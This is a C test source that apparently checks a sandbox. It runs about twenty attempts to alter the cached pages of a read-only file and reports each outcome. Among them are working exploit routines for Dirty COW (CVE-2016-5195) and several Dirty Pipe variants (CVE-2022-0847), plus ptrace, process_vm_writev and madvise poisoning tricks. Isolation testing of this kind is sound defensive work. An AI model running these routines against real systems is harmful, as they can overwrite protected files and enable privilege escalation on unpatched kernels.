// page-cache FILE: everything that has ever written to the cached pages of a file that may only be read. The file's own
// pages are what all rooms of a plank share. Prints `NAME ERROR` for each try; that the kernel did something does not
// mean that the file changed: the test reads the file elsewhere.
#include <fcntl.h>
#include <linux/fs.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>

#include "hostile.h"

enum { PAGE = 4096 };
static const char ruin[] = "ruined by another room";
static const char* path;
static int file;
static char* mapped;  // MAP_PRIVATE, PROT_READ

static long open_again(void) {
  char again[32];
  snprintf(again, sizeof again, "/proc/self/fd/%d", file);
  int fd = open(again, O_RDWR | O_CLOEXEC);
  return fd < 0 ? -1 : write(fd, ruin, sizeof ruin) < 0 ? -1 : 0;
}
static long write_shared(void) {
  void* at = mmap(0, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
  return at == MAP_FAILED ? -1 : (memcpy(at, ruin, sizeof ruin), 0);
}
static long protect_later(void) {
  void* at = mmap(0, PAGE, PROT_READ, MAP_SHARED, file, 0);
  if (at == MAP_FAILED || mprotect(at, PAGE, PROT_READ | PROT_WRITE) != 0) return -1;
  memcpy(at, ruin, sizeof ruin);
  return 0;
}
// Writes to memory that is mapped read-only go to a copy, unless the copy can be made to vanish in between
// (CVE-2016-5195).
static atomic_int racing = 1;
static void* forget(void* unused) {
  while (atomic_load(&racing)) madvise(mapped, PAGE, MADV_DONTNEED);
  return unused;
}
static long dirty_cow(void) {
  pthread_t forgetter;
  int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
  if (memory < 0 || pthread_create(&forgetter, 0, forget, 0) != 0) return -1;
  long result = 0;
  struct timespec begin, now;
  clock_gettime(CLOCK_MONOTONIC, &begin);
  do {
    result = pwrite(memory, ruin, sizeof ruin, (off_t)(uintptr_t)mapped);
    clock_gettime(CLOCK_MONOTONIC, &now);
  } while ((now.tv_sec - begin.tv_sec) * 1000 + (now.tv_nsec - begin.tv_nsec) / 1000000 < 150);
  atomic_store(&racing, 0);
  pthread_join(forgetter, 0);
  return result < 0 ? -1 : 0;
}
// A pipe whose every buffer may be written to, then given a page of the file (CVE-2022-0847).
static int worn_pipe(int* ends) {
  static char fill[PAGE];
  if (pipe(ends) != 0) return -1;
  int size = fcntl(ends[1], F_GETPIPE_SZ);
  for (int left = size; left > 0; left -= PAGE)
    if (write(ends[1], fill, PAGE) != PAGE) return -1;
  for (int left = size; left > 0; left -= PAGE)
    if (read(ends[0], fill, PAGE) != PAGE) return -1;
  return 0;
}
static long dirty_pipe(void) {
  int ends[2];
  loff_t from = 0;
  if (worn_pipe(ends) != 0 || splice(file, &from, ends[1], 0, 1, 0) != 1) return -1;
  return write(ends[1], ruin, sizeof ruin) < 0 ? -1 : 0;
}
static long dirty_sendfile(void) {
  int ends[2];
  off_t from = 0;
  if (worn_pipe(ends) != 0 || sendfile(ends[1], file, &from, 1) != 1) return -1;
  return write(ends[1], ruin, sizeof ruin) < 0 ? -1 : 0;
}
static long dirty_vmsplice(void) {
  int ends[2];
  struct iovec part = {mapped, PAGE};
  if (worn_pipe(ends) != 0 || vmsplice(ends[1], &part, 1, SPLICE_F_GIFT) != PAGE) return -1;
  return write(ends[1], ruin, sizeof ruin) < 0 ? -1 : 0;
}
static long dirty_tee(void) {
  int ends[2], other[2];
  loff_t from = 0;
  if (worn_pipe(ends) != 0 || worn_pipe(other) != 0 || splice(file, &from, ends[1], 0, PAGE, 0) < 1) return -1;
  if (tee(ends[0], other[1], PAGE, 0) < 1) return -1;
  return write(other[1], ruin, sizeof ruin) < 0 ? -1 : 0;
}
// The kernel's ciphers work in place on what is spliced to them (CVE-2026-31431).
static long cipher_socket(void) { return socket(38, SOCK_SEQPACKET, 0); }
static long vm_write(void) {
  struct iovec from = {(void*)ruin, sizeof ruin}, to = {mapped, sizeof ruin};
  return process_vm_writev(getpid(), &from, 1, &to, 1, 0);
}
static long poke(void) {
  pid_t child = fork();
  if (child == 0) {
    ptrace(PTRACE_TRACEME, 0, 0, 0);
    raise(SIGSTOP);
    _exit(0);
  }
  int status;
  waitpid(child, &status, WUNTRACED);
  long result = ptrace(PTRACE_POKEDATA, child, mapped, 0x4141414141414141);
  int error = errno;
  kill(child, SIGKILL);
  waitpid(child, &status, 0);
  errno = error;
  return result;
}
static long ring(void) { return syscall(SYS_io_uring_setup, 4, (char[128]){0}); }
static long fault_later(void) { return syscall(SYS_userfaultfd, 1 /* UFFD_USER_MODE_ONLY */); }
// Takes the page away from everybody who has it.
static long poison(void) { return madvise(mapped, PAGE, 100 /* MADV_HWPOISON */); }
static long offline(void) { return madvise(mapped, PAGE, 101 /* MADV_SOFT_OFFLINE */); }
static long punch(void) {
  void* at = mmap(0, PAGE, PROT_READ, MAP_SHARED, file, 0);
  return at == MAP_FAILED ? -1 : madvise(at, PAGE, MADV_REMOVE);
}
static long cut(void) { return ftruncate(file, 0); }
static long hole(void) { return fallocate(file, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, PAGE); }
static long make_immutable(void) { return ioctl(file, FS_IOC_SETFLAGS, &(int){FS_IMMUTABLE_FL}); }
static long by_map_files(void) {
  char name[96];
  snprintf(name, sizeof name, "/proc/self/map_files/%lx-%lx", (long)mapped, (long)mapped + PAGE);
  int fd = open(name, O_RDWR | O_CLOEXEC);
  return fd < 0 ? -1 : write(fd, ruin, sizeof ruin) < 0 ? -1 : 0;
}
static long by_name(void) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  return fd < 0 ? -1 : write(fd, ruin, sizeof ruin) < 0 ? -1 : 0;
}

static const struct {
  const char* name;
  long (*make)(void);
} tries[] = {
    {"mmap(SHARED,WRITE)", write_shared},
    {"mprotect(WRITE)", protect_later},
    {"dirty-cow", dirty_cow},
    {"dirty-pipe(splice)", dirty_pipe},
    {"dirty-pipe(sendfile)", dirty_sendfile},
    {"dirty-pipe(vmsplice)", dirty_vmsplice},
    {"dirty-pipe(tee)", dirty_tee},
    {"AF_ALG", cipher_socket},
    {"process_vm_writev", vm_write},
    {"ptrace(POKEDATA)", poke},
    {"io_uring_setup", ring},
    {"userfaultfd", fault_later},
    {"madvise(HWPOISON)", poison},
    {"madvise(SOFT_OFFLINE)", offline},
    {"madvise(REMOVE)", punch},
    {"ftruncate", cut},
    {"fallocate", hole},
    {"FS_IOC_SETFLAGS", make_immutable},
    {"map_files", by_map_files},
    {"open(fd)", open_again},
    {"open(name)", by_name},
};

int page_cache(int count, char** words) {
  if (count != 1) return 2;
  path = words[0];
  file = open(path, O_RDONLY | O_CLOEXEC);
  mapped = mmap(0, PAGE, PROT_READ, MAP_PRIVATE, file, 0);
  if (file < 0 || mapped == MAP_FAILED) return 1;
  for (size_t i = 0; i < sizeof tries / sizeof *tries; i++) {
    errno = 0;
    report(tries[i].name, tries[i].make() < 0 ? -1 : 0);
  }
  return 0;
}
